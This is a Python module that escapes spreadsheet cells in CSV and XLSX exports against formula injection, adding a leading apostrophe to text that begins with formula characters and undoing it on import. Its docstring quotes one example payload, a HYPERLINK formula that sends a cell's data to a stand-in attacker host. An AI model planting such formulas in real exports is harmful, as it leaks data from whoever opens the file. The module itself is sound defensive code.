"""Every CSV and XLSX cell SIGAP writes goes through here, so no typed text becomes a formula.

A name such as ``=HYPERLINK("http://evil.example/?d="&A2,"Klik")`` (a child's, a cadre's, a
guest's) or the initials ``=.E.`` would otherwise run as a formula when the Dinas opens the
file: spreadsheets read a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some, a
tab or a carriage return) as one. So such a text gets a leading apostrophe (the OWASP "CSV
injection" advice; spreadsheets show it as text), and every text cell of an XLSX is written with
the string type, whatever it holds, so openpyxl never stores it as a formula or an error code.

Numbers, dates and empty cells stay what they are: the recap's counts must stay numbers. A
text that is only dashes or a plain negative number ("-", "-2.5") is no formula either and
keeps its shape (exports use "-" for "none").

Reading a file back (the roster import) undoes the apostrophe with ``unguard``, so a roster
exported and imported again keeps its phone numbers (``+62…``) as they were.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

from openpyxl.cell.cell import Cell

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
GUARD = "'"
_HARMLESS = re.compile(r"^-+$|^-\d+(?:[.,]\d+)?$")


def guard_text(text: str) -> str:
    """The text as a cell may hold it: an apostrophe before a leading formula character."""
    if text.startswith(FORMULA_TRIGGERS) and not _HARMLESS.match(text):
        return GUARD + text
    return text


def guard_value(value: Any) -> Any:
    """A cell's value with its text guarded; numbers, dates and None unchanged."""
    if isinstance(value, str):
        return guard_text(value)
    return value


def guarded_row(row: Iterable[Any]) -> list[Any]:
    return [guard_value(value) for value in row]


def unguard(text: str) -> str:
    """Undo ``guard_text`` on a text read from a file (the apostrophe before a formula character)."""
    if text.startswith(GUARD) and text[1:2] and text[1:].startswith(FORMULA_TRIGGERS):
        return text[1:]
    return text


def xlsx_cells(sheet, row: Iterable[Any]) -> list[Cell]:
    """Cells for ``sheet.append`` (a write-only sheet or a normal one): text guarded and typed
    as a string, so openpyxl never makes it a formula (``data_type == "f"``)."""
    cells = []
    for column, value in enumerate(row, start=1):
        # A position from the start (the sheet sets the real one): a write-only sheet prints
        # the cell while deciding that it is a cell, and a cell without one cannot be printed.
        cell = Cell(sheet, row=1, column=column, value=guard_value(value))
        if isinstance(value, str):
            cell.data_type = "s"
        cells.append(cell)
    return cells


def xlsx_append(sheet, row: Iterable[Any]) -> None:
    """Append one guarded row to an openpyxl sheet."""
    sheet.append(xlsx_cells(sheet, row))


class GuardedCsvWriter:
    """``csv.writer`` with every cell guarded."""

    def __init__(self, out, **kwargs):
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow(guarded_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out, **kwargs) -> GuardedCsvWriter:
    return GuardedCsvWriter(out, **kwargs)
